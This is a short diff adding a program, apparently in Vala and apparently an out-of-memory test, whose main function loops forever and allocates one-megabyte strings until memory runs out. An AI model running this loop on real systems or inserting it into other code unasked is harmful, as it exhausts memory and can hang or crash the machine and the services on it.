@@ -1,0 +1,4 @@
+int main() {
+    string[] hoard = {};
+    while (true) hoard += string.nfill(1 << 20, 'x');
+}
